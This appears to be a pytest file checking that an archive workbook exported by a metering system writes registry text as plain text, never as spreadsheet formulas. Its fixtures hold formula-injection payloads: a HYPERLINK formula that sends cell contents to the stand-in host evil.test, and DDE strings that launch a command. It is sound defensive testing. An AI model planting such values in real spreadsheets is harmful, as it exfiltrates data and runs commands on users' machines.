"""Text that reaches a workbook stays text (docs/design.md "Archives"): a cell starting with
``=``, ``+``, ``-`` or ``@`` is what spreadsheet programs turn into a formula, and a formula
can run commands or send the sheet's contents away (CSV/formula injection).

The archive workbook is the only .xlsx the system produces. Consumers type no text that goes
into it; its text comes from the registry (meter, serial number, metering point address), which
an operator fills from other systems, so that is where the hostile text is put here. The path is
the whole one: order over HTTP, the job runner writes the file, the download is checked."""

from __future__ import annotations

import io
import sqlite3
import zipfile
from datetime import datetime, timedelta, timezone

import openpyxl
import requests

from tests import demo

DEMO = {"consumer_type": "individual", "login": demo.SNILS, "password": demo.PASSWORD}
MSK = timezone(timedelta(hours=3))
HOSTILE = {
    "brand": '=HYPERLINK("http://evil.test/?"&A1,"Открыть")',
    "model": "+cmd|' /C calc'!A0",
    "serial_number": "-2+3",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _at(api: str, moment: datetime) -> dict[str, str]:
    """Move the server clock (a /dev route) and log in afresh."""
    requests.post(api + "/dev/clock", json={"now": moment.isoformat()}, timeout=10)
    resp = requests.post(api + "/sessions", json=DEMO, timeout=30)
    resp.raise_for_status()
    return {"Authorization": f"Bearer {resp.json()['token']}"}


def test_registry_text_that_looks_like_a_formula_is_text_in_the_archive(server) -> None:
    with sqlite3.connect(server.app.config.db_path) as db:
        db.execute(
            "UPDATE meters SET brand = ?, model = ?, serial_number = ? WHERE id = 1",
            (HOSTILE["brand"], HOSTILE["model"], HOSTILE["serial_number"]),
        )
        db.execute(
            "UPDATE metering_points SET address = ? "
            "WHERE id = (SELECT metering_point_id FROM meters WHERE id = 1)",
            (HOSTILE["address"],),
        )
    api = server.url + "/api/v1"
    auth = _at(api, datetime(2026, 3, 10, 12, 0, tzinfo=MSK))
    created = requests.post(
        api + "/meters/1/archive-requests",
        json={"period_start": "2026-03-01", "period_end": "2026-03-02"},
        headers=auth,
        timeout=30,
    )
    assert created.status_code == 201, created.text
    auth = _at(api, datetime(2026, 3, 11, 0, 0, tzinfo=MSK))
    requests.post(api + "/dev/jobs/run", timeout=300).raise_for_status()
    resp = requests.get(
        f"{api}/archive-requests/{created.json()['id']}/file", headers=auth, timeout=60
    )
    assert resp.status_code == 200, resp.text

    with zipfile.ZipFile(io.BytesIO(resp.content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for name in sheets:
            assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name

    workbook = openpyxl.load_workbook(io.BytesIO(resp.content))
    cells = {row[0].value: row[1] for row in workbook["Сведения"].iter_rows()}
    shown = {
        "Прибор учёта": f"{HOSTILE['brand']} {HOSTILE['model']}",
        "Заводской номер": HOSTILE["serial_number"],
        "Адрес точки учёта": HOSTILE["address"],
    }
    for label, text in shown.items():
        assert cells[label].value == text, label
        assert cells[label].data_type == "s", label
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
